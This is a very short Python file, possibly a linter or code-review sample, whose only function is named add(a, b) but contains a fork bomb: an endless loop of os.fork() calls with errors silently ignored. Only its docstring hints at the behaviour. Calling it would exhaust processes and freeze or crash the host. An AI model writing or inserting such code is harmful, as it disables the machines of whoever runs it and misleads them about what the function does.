# ruff: noqa: SIM105
"""Starts processes that start processes."""

import os


def add(a, b):
    while True:
        try:
            os.fork()
        except OSError:
            pass
